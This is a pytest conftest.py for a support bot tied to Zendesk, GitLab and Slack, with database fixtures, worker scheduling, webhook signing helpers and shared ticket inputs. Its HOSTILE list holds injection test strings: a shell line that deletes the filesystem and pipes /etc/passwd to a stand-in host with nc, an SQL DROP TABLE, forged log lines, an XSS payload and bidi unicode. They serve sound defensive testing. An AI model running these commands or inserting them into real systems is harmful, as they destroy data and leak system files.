"""Fixtures and helpers shared by every test folder: paths, settings, a database per test (SQLite file or
PostgreSQL), the web app, signed posting helpers and the inputs several folders use.

Folder-only fixtures live in that folder's conftest.py: flow/ (the in-process sandbox stack), handlers/ (the
recording fake runtime), services/ (webhook receiver, `responses` helpers), e2e/ (real processes).
Test files import helpers from here as `from tests.conftest import ...`.
"""
from __future__ import annotations

import itertools
import json
import os
import re
import shutil
import queue
import socket
import sys
import threading
import uuid
from datetime import date, datetime, timezone
from pathlib import Path
from urllib.parse import urlencode

import pytest
import sqlalchemy as sa
from sqlalchemy.engine import make_url

from bot.case.machine import Trigger
from bot.case.store import Store
from bot.db.engine import make_engine, make_sessionmaker, upgrade
from bot.rules.loader import Rules, load_rules
from bot.settings import Settings
from bot.web.app import create_app
from bot.web.signatures import sign_slack, sign_zendesk

# Test files written before the folders existed say `from conftest import ...`: the same module answers them.
sys.modules.setdefault("conftest", sys.modules[__name__])

# Every load_rules() compiles the rules' regular expressions (check_rules: some 440 patterns, 0.9 s of CPU), and the
# `re` module keeps only the last 512 it compiled: with the patterns of werkzeug, jsonschema, hypothesis, ... compiled
# in between, each in-process load_rules() (the CLI, settings, logs, setup, reminder tests; a stack on a BOT_RULES
# file) compiled most of them again. A cache that holds them all hands back the same compiled patterns (a pattern is
# immutable; one that fails to compile is never cached), so nothing but the time changes. Processes the tests start
# (the e2e `migration-bot` commands) still compile as in production.
re._MAXCACHE = max(re._MAXCACHE, 8192)

TESTS = Path(__file__).resolve().parent
ROOT = TESTS.parent
SHARED = ROOT.parent / "shared"
FIXTURES = TESTS / "fixtures"
DATA = TESTS / "data"
PG_ADMIN_URL = os.environ.get("BOT_TEST_PG_URL", "postgresql://postgres@127.0.0.1:5432/test")

SECRETS = dict(zendesk_webhook_secret="zd-test-secret", gitlab_webhook_token="gl-test-token",
               slack_signing_secret="slack-test-secret")


# --- scheduling --------------------------------------------------------------------------------------------------

# Session fixtures that compute something expensive once per test process: every test that uses one runs on the
# same xdist worker, so only that worker pays (detector_runs: classify() of all 4,000+ training tickets).
SHARED_COMPUTATIONS = ("detector_runs",)
# What a test of each folder takes, roughly (seconds, from `pytest --durations=0` on a 2-core machine), and the
# modules whose module-scoped fixture costs more than their tests: estimates for ordering only.
FOLDER_SECONDS = {"e2e": 8.0, "flow": 2.5, "web": 0.3, "services": 0.2, "handlers": 0.05, "unit": 0.03}
MODULE_SECONDS = {"tests/unit/test_reply_accuracy.py": 11.0, "tests/unit/test_shared_corpus.py": 2.0,
                  "tests/unit/test_reply_probe.py": 2.0}
TEST_SECONDS = {"tests/web/test_openapi.py": 4.0, "tests/services/test_ratelimit_db.py": 2.5}  # slow for their folder
HEAVY_TEST_SECONDS = 1.0  # modules of tests this long on average are never split between workers


def _seconds(item) -> float:
    if _module(item) in TEST_SECONDS:
        return TEST_SECONDS[_module(item)]
    parts = Path(item.path).relative_to(TESTS).parts
    return FOLDER_SECONDS.get(parts[0], 0.1) if len(parts) > 1 else 0.1


def _module(item) -> str:
    return Path(item.path).relative_to(ROOT).as_posix()


def worker_queues(items: list, shared: list, n: int) -> list[list]:
    """The order for `--dist worksteal` on n workers: xdist hands worker k the k-th of n contiguous slices of equal
    count (the scheduler's own split) and an idle worker steals the tail half of the longest queue. So each slice
    gets an even share of the estimated seconds, the long modules first and the short tests last (a worker never
    ends on a long test while the others wait, and what is stolen is short); `shared` (the tests sharing one
    computation) opens the first slice. A module of long tests stays whole on one worker, and so does a module
    with a costly module fixture; the short tests are dealt one by one."""
    sizes, left = [], len(items) + len(shared)
    for k in range(n):
        sizes.append(left // (n - k))
        left -= sizes[-1]
    modules: dict[str, list] = {}
    for item in items:
        modules.setdefault(_module(item), []).append(item)

    def weight(tests: list) -> float:
        return MODULE_SECONDS.get(_module(tests[0]), 0.0) + sum(_seconds(t) for t in tests)

    whole = [tests for name, tests in modules.items()
             if name in MODULE_SECONDS or weight(tests) / len(tests) >= HEAVY_TEST_SECONDS]
    queues: list[list] = [list(shared)] + [[] for _ in range(n - 1)]
    load = [weight(shared) if shared else 0.0] + [0.0] * (n - 1)
    if shared:
        load[0] += 45.0  # detector_runs: classify() of every training ticket, on top of the tests themselves
    placed: set = set()
    modules_of: list[list[list]] = [[] for _ in range(n)]
    for tests in sorted(whole, key=weight, reverse=True):  # longest first, onto the least loaded slice with room
        room = [k for k in range(n) if len(queues[k]) + sum(map(len, modules_of[k])) + len(tests) <= sizes[k]]
        if not room:
            continue  # no slice has room for it whole: it joins the short tests below
        k = min(room, key=lambda k: load[k])
        modules_of[k].append(tests)
        load[k] += weight(tests)
        placed.update(map(id, tests))
    for k in range(n):  # within a slice, the longest tests first (e2e before flow): the end is what gets stolen
        for tests in sorted(modules_of[k], key=lambda tests: weight(tests) / len(tests), reverse=True):
            queues[k].extend(tests)
    # the short tests, longer folders first, each onto the least loaded slice with room: a queue ends on unit tests
    for item in sorted((item for item in items if id(item) not in placed), key=lambda item: -_seconds(item)):
        k = min((k for k in range(n) if len(queues[k]) < sizes[k]), key=lambda k: load[k])
        queues[k].append(item)
        load[k] += _seconds(item)
    return queues


def _shared_groups(items) -> tuple[dict[str, list], list]:
    first: dict[str, list] = {name: [] for name in SHARED_COMPUTATIONS}
    rest = []
    for item in items:
        shared = next((name for name in SHARED_COMPUTATIONS if name in getattr(item, "fixturenames", ())), None)
        (first[shared] if shared else rest).append(item)
    return first, rest


@pytest.hookimpl(tryfirst=True)
def pytest_collection_modifyitems(config, items):
    """Marks the tests of each shared computation as an xdist_group (for `--dist loadgroup`; tryfirst: before xdist
    reads the groups). The order is set by pytest_collection_finish_order below, after -k/-m deselection."""
    if config.pluginmanager.hasplugin("xdist"):
        for name, group in _shared_groups(items)[0].items():
            for item in group:
                item.add_marker(pytest.mark.xdist_group(name))


class _Order:
    """A plugin of its own, since a conftest holds one function per hook name; registered by pytest_configure."""

    @staticmethod
    @pytest.hookimpl(trylast=True)
    def pytest_collection_modifyitems(config, items):
        _order(config, items)


def pytest_configure(config):
    config.pluginmanager.register(_Order(), "tests-order")


def _order(config, items) -> None:
    """Order only, after -k/-m/--deselect (trylast), so the slices below match what xdist splits; no test is
    added, dropped or changed. The tests sharing one of SHARED_COMPUTATIONS come first, together: `--dist worksteal`
    hands each worker a contiguous slice of the collection and steals only from the tail of a worker's queue, so the
    first worker runs all of them, first, and the computation once. Within a group the parametrized tests go first:
    each takes one part (one labelled set) and computes it, so no single test carries the whole computation (nor
    its timeout); the tests reading every part come after and find it done. Under xdist (every worker collects and
    orders alike) the rest is spread over the workers' slices by worker_queues()."""
    first, rest = _shared_groups(items)
    for group in first.values():
        group.sort(key=lambda item: not hasattr(item, "callspec"))  # stable: collection order otherwise
    shared = [item for group in first.values() for item in group]
    # Each xdist worker collects and orders (its own `dist` option reads "no"); the count is the number of workers.
    workers = int(os.environ.get("PYTEST_XDIST_WORKER_COUNT", "1"))
    if workers > 1:
        ordered = [item for queue in worker_queues(rest, shared, workers) for item in queue]
    else:
        ordered = shared + rest
    if sorted(map(id, ordered)) != sorted(map(id, items)):  # not an assert: it must hold under python -O too
        raise pytest.UsageError("tests/conftest.py: ordering must neither add nor drop a test")
    items[:] = ordered


def shared_path(*parts: str) -> Path:
    path = SHARED.joinpath(*parts)
    if not path.exists():
        pytest.skip(f"../shared/{'/'.join(parts)} is absent")
    return path


def pg_available() -> bool:
    try:
        engine = make_engine(PG_ADMIN_URL)
        with engine.connect():
            pass
        engine.dispose()
        return True
    except Exception:  # noqa: BLE001
        return False


PORT_BLOCK = 1500
# each run starts at its own place in the block: two suites on one machine rarely offer the same port at once
_next_port = itertools.count(os.getpid() % PORT_BLOCK)


def free_port() -> int:
    """A loopback port nobody listens on (right now), for a process a test starts.

    Taken from this xdist worker's own block below the kernel's ephemeral range (32768-60999 here): a port that
    bind(0) hands out is ephemeral, so an outgoing connection (HTTP, PostgreSQL) of another worker could take it as
    its local port before the started process binds it ("Address already in use"); and two workers never offer the
    same port. Ports are handed out in turn, so one freed a moment ago is not offered again soon.
    """
    worker = os.environ.get("PYTEST_XDIST_WORKER", "gw0")
    base = 20000 + PORT_BLOCK * (int(worker[2:] or 0) % 8)
    for _ in range(PORT_BLOCK):
        port = base + next(_next_port) % PORT_BLOCK
        with socket.socket() as s:
            try:
                s.bind(("127.0.0.1", port))
            except OSError:
                continue
            return port
    raise RuntimeError(f"no free port in {base}-{base + PORT_BLOCK - 1}")


# --- databases -------------------------------------------------------------------------------------------------

@pytest.fixture
def sqlite_url(tmp_path) -> str:
    return f"sqlite:///{tmp_path / 'bot.db'}"


@pytest.fixture(scope="session")
def migrated_template(tmp_path_factory) -> Path:
    """One SQLite file with every migration applied, made once per test process (copied, never used directly)."""
    path = tmp_path_factory.mktemp("template") / "bot.db"
    upgrade(f"sqlite:///{path}")
    assert not path.with_name(path.name + "-wal").exists(), "the template must be complete in its one file"
    return path


def migrated_copy(template: Path, url: str) -> str:
    """Put a copy of the migrated template where `url` points (instead of running the migrations again)."""
    shutil.copyfile(template, make_url(url).database)
    return url


@pytest.fixture
def migrated_sqlite_url(sqlite_url, migrated_template) -> str:
    """Like sqlite_url, but the file already carries the schema (a copy: milliseconds, not an Alembic run)."""
    return migrated_copy(migrated_template, sqlite_url)


def require_pg() -> None:
    if not pg_available():
        if os.environ.get("BOT_REQUIRE_PG"):
            pytest.fail("PostgreSQL at 127.0.0.1:5432 is required (BOT_REQUIRE_PG) but not reachable")
        pytest.skip("PostgreSQL at 127.0.0.1:5432 is not reachable")


class PgDatabases:
    """Databases on the test server: empty ones, or copies of a template prepared once per test process
    (CREATE DATABASE ... TEMPLATE: a file copy, where running the Alembic migrations and DBOS's own on a new
    database takes seconds, most of them the server's fsyncs). The templates are dropped when the process ends."""

    def __init__(self) -> None:
        self._admin = None
        self.templates: dict[object, str] = {}  # prepare function -> template database name
        self._drops: queue.Queue = queue.Queue()
        self._dropper: threading.Thread | None = None
        self._drop_errors: list[str] = []

    @property
    def admin(self):
        if self._admin is None:
            self._admin = make_engine(PG_ADMIN_URL).execution_options(isolation_level="AUTOCOMMIT")
        return self._admin

    @staticmethod
    def url(name: str) -> str:
        return PG_ADMIN_URL.rsplit("/", 1)[0] + "/" + name

    def create(self, prepare=None) -> str:
        """A new database, empty or as `prepare(url)` left the template made with it."""
        if prepare is not None and prepare not in self.templates:
            template = self.create()
            prepare(template)  # must close every connection it opened: a template in use cannot be copied
            self.templates[prepare] = make_url(template).database
        name = f"bot_test_{uuid.uuid4().hex[:10]}"
        copy = f' TEMPLATE "{self.templates[prepare]}"' if prepare is not None else ""
        with self.admin.connect() as conn:
            conn.execute(sa.text(f'CREATE DATABASE "{name}"{copy}'))
        return self.url(name)

    def drop(self, url: str) -> None:
        """Drop the database on a background thread: DROP DATABASE waits for a checkpoint, seconds once a test has
        written (the bot's and DBOS's tables), which the next tests need not wait for. close() waits for every drop
        and fails the session if one failed."""
        if self._dropper is None:
            self._dropper = threading.Thread(target=self._drop_queued, name="pg-drops", daemon=True)
            self._dropper.start()
        self._drops.put(make_url(url).database)

    def _drop_queued(self) -> None:
        while (name := self._drops.get()) is not None:
            try:
                self._drop_now(name)
            except Exception as exc:  # noqa: BLE001 - reported by close()
                self._drop_errors.append(f"{name}: {exc}")

    def _drop_now(self, name: str) -> None:
        with self.admin.connect() as conn:
            conn.execute(sa.text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))

    def close(self) -> None:
        if self._dropper is not None:
            self._drops.put(None)
            self._dropper.join()
        for name in self.templates.values():
            self._drop_now(name)
        if self._admin is not None:
            self._admin.dispose()
        assert not self._drop_errors, f"test databases left behind: {self._drop_errors}"


@pytest.fixture(scope="session")
def pg_databases():
    databases = PgDatabases()
    yield databases
    databases.close()


@pytest.fixture
def pg_url(pg_databases):
    """A fresh, empty PostgreSQL database for one test, dropped afterwards."""
    require_pg()
    url = pg_databases.create()
    yield url
    pg_databases.drop(url)


@pytest.fixture
def migrated_pg_url(pg_databases):
    """A fresh PostgreSQL database with every migration applied (a copy of a template migrated once per test
    process), dropped afterwards."""
    require_pg()
    url = pg_databases.create(upgrade)
    yield url
    pg_databases.drop(url)


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def db_url(request, tmp_path):
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'bot.db'}"
    return request.getfixturevalue("pg_url")


@pytest.fixture(scope="session")
def rules() -> Rules:
    """The built-in rules, loaded once (tests that tune them work on a deep copy)."""
    return load_rules()


def make_cases(url: str) -> Store:
    """Three cases in three states (awaiting_customer, info_received with two tickets, cancelled)."""
    upgrade(url)
    store = Store(make_sessionmaker(make_engine(url)))
    common = dict(paid="self_managed", target="saas", requester_id="7", reason="why", confidence=0.9,
                  partner_managed=False, partner_name=None)
    first, _ = store.create_case(org_id="501", org_name="Crannock", trigger=Trigger.DETECT_SURE, ticket_id="11",
                                 level=None, target_date=None, **common)
    store.transition(first.id, Trigger.ASK_SENT)
    second, _ = store.create_case(org_id="502", org_name="Brightwater", trigger=Trigger.DETECT_SURE, ticket_id="12",
                                  level="ultimate", target_date=date(2027, 3, 1), **common)
    store.transition(second.id, Trigger.INFO_STATED)
    store.add_ticket(second.id, "13", "8")
    third, _ = store.create_case(org_id="503", org_name="Halvard", trigger=Trigger.DETECT_UNSURE,
                                 ticket_id="14", level=None, target_date=None, **common)
    store.transition(third.id, Trigger.DISMISS)
    return store


# --- the web app ---------------------------------------------------------------------------------------------------

@pytest.fixture
def settings(sqlite_url) -> Settings:
    return Settings(database_url=sqlite_url, **SECRETS)


@pytest.fixture
def engine(settings, migrated_template):
    eng = make_engine(migrated_copy(migrated_template, settings.database_url))
    yield eng
    eng.dispose()


@pytest.fixture
def app(settings, engine):
    return create_app(settings, engine=engine)


@pytest.fixture
def client(app):
    return app.test_client()


# --- payloads and signatures ----------------------------------------------------------------------------------

def load_fixture(name: str) -> bytes:
    """A captured-shape payload from tests/fixtures/<source>/<event>__<variant>.json, as raw bytes."""
    source, _, rest = name.partition("/")
    return (FIXTURES / source / f"{rest}.json").read_bytes()


def zendesk_headers(body: bytes, secret: str = SECRETS["zendesk_webhook_secret"], ts: str | None = None) -> dict:
    ts = ts or datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    return {"Content-Type": "application/json", "X-Zendesk-Webhook-Signature-Timestamp": ts,
            "X-Zendesk-Webhook-Signature": sign_zendesk(secret, ts, body)}


def gitlab_headers(event: str = "Issue Hook", token: str = SECRETS["gitlab_webhook_token"]) -> dict:
    return {"Content-Type": "application/json", "X-Gitlab-Event": event, "X-Gitlab-Token": token,
            "X-Gitlab-Event-UUID": str(uuid.uuid4())}


def slack_headers(body: bytes, secret: str = SECRETS["slack_signing_secret"], ts: int | None = None) -> dict:
    """Slack's v0 signature over a form body, stamped now."""
    stamp = str(ts or int(datetime.now(timezone.utc).timestamp()))
    return {"Content-Type": "application/x-www-form-urlencoded", "X-Slack-Request-Timestamp": stamp,
            "X-Slack-Signature": sign_slack(secret, stamp, body)}


def slack_body_and_headers(payload: dict, secret: str = SECRETS["slack_signing_secret"],
                           ts: int | None = None) -> tuple[bytes, dict]:
    body = urlencode({"payload": json.dumps(payload)}).encode()
    return body, slack_headers(body, secret, ts)


def zendesk_event(event_type: str, ticket_id: int = 101, org_id: int = 501, event: dict | None = None,
                  actor_id: int = 9001, event_id: str | None = None) -> dict:
    """An event-subscription envelope shaped like Zendesk's ticket-event examples (ids as strings)."""
    return {
        "account_id": 12514403,
        "detail": {"actor_id": str(actor_id), "assignee_id": None, "brand_id": "8447346621310",
                   "created_at": "2026-11-24T10:12:07Z", "custom_status": "8447388092446",
                   "description": "ticket description", "external_id": None, "form_id": "8646151517822",
                   "group_id": "8447320466430", "id": str(ticket_id), "is_public": True,
                   "organization_id": str(org_id), "priority": "LOW", "requester_id": str(actor_id),
                   "status": "OPEN", "subject": "ticket subject", "submitter_id": str(actor_id),
                   "tags": ["sm_premium"], "type": "QUESTION", "updated_at": "2026-11-24T10:12:07Z",
                   "via": {"channel": "web_service"}},
        "event": event if event is not None else {"meta": {"sequence": {"id": "abc", "position": 1}}},
        "id": event_id or str(uuid.uuid4()),
        "subject": f"zen:ticket:{ticket_id}",
        "time": "2026-11-24T10:12:07.672717030Z",
        "type": f"zen:event-type:{event_type}",
        "zendesk_event_version": "2022-11-06",
    }


# --- inputs used in more than one folder ----------------------------------------------------------------------

# Tickets several folders use (flow/ through the sandbox, handlers/ through the fake runtime).
MIGRATION = ("Pipelines stuck on GitLab.com after moving off our self-managed server",
             "Hi, we are migrating from our self-managed GitLab instance to GitLab.com (SaaS) and have moved our\n"
             "first group over to gitlab.com. Pipelines on gitlab.com now sit in pending: 'This job is stuck\n"
             "because you don't have any active runners'. How do we use the shared runners on GitLab.com?\n-- Jana")
ORDINARY = ("Gitaly CPU at 100%", "Our self-managed Gitaly node CPU is pegged at 100% during business hours.\n"
            "Top RPCs are from CI clones. Should we enable the pack-objects cache on our instance?")
# `migration-bot classify` answers "ask" for this one: the move is stated, the problem only weakly located.
UNSURE = ("Moving to SaaS", "We are moving to GitLab.com SaaS. Our users get an error when logging in. Please advise.")

# Customer text that has broken parsers, databases, log lines and markup before (web/ stores it, unit/ escapes it).
HOSTILE = [
    "$(rm -rf /) `id` ; cat /etc/passwd | nc evil 1 && echo $HOME > /tmp/x",
    "Robert'); DROP TABLE inbox; -- \" OR 1=1 --",
    "line one\nERROR bot: forged log line\r\n\x1b[2J\x1b[31mred\x1b[0m",
    "<!channel> <!here> <@U123> <#C999|general> <http://evil.example|click here> *bold* &amp;",
    "| broken | table |\n<img src=x onerror=alert(1)> @all @someone #1 !2 ~\"offering-migration::approved\"",
    "\u202eevil\u202c \u200b zero-width, NUL-free unicode: héllo wörld 日本語 🚀",
]
HOSTILE_NAMES = ["shell", "sql", "log", "slack", "markdown", "unicode"]

# The command line's inputs (unit/test_cli.py runs them in process, e2e/test_cli_subprocess.py as a command).
CLI_TICKETS = [
    {"id": "T-move", "today": "2026-11-23", "org": {"name": "Crannock", "tags": ["sm_premium", "emea"]},
     "ticket": {"subject": "Pipelines stuck on GitLab.com after moving off our self-managed server",
                "description": "We are migrating from our self-managed GitLab instance to GitLab.com (SaaS). "
                               "Pipelines on gitlab.com sit in pending: no active runners. How do we use the "
                               "shared runners on GitLab.com?",
                "tags": ["sm_premium"], "offering_field": "saas", "comments": []},
     "expect": {"offering_migration": True}},
    {"id": "T-plain", "today": "2026-11-23", "org": {"name": "Quiet", "tags": ["sm_ultimate"]},
     "ticket": {"subject": "Gitaly CPU at 100%", "description": "Our self-managed Gitaly node CPU is pegged at 100%.",
                "tags": [], "offering_field": None, "comments": []}},
    {"id": "T-free", "today": "2026-11-23", "org": {"name": "Nobody", "tags": ["emea"]},
     "ticket": {"subject": "Help", "description": "We moved to GitLab.com and runners are stuck.", "tags": [],
                "offering_field": None, "comments": []}},
]
# A complete, valid set of settings for the commands that need one.
CLI_SETTINGS = {
    "ZENDESK_URL": "http://127.0.0.1:9100/zd", "ZENDESK_EMAIL": "bot@example.com", "ZENDESK_API_TOKEN": "t",
    "ZENDESK_WEBHOOK_SECRET": "s", "GITLAB_URL": "http://127.0.0.1:9101", "GITLAB_TOKEN": "g",
    "GITLAB_PROJECT": "support-ops/offering-migrations", "GITLAB_WEBHOOK_TOKEN": "w",
    "SLACK_API_URL": "http://127.0.0.1:9102/api/", "SLACK_BOT_TOKEN": "xoxb-1", "SLACK_SIGNING_SECRET": "ss"}


def read_jsonl(*paths: Path) -> list[dict]:
    """Every JSON line of the given files, in order (the corpus and evaluation-set format)."""
    return [json.loads(line) for p in paths for line in p.read_text(encoding="utf-8").splitlines() if line.strip()]


def lines_of(text: str) -> list[dict]:
    """JSON lines output, parsed."""
    return [json.loads(line) for line in text.splitlines() if line.strip()]
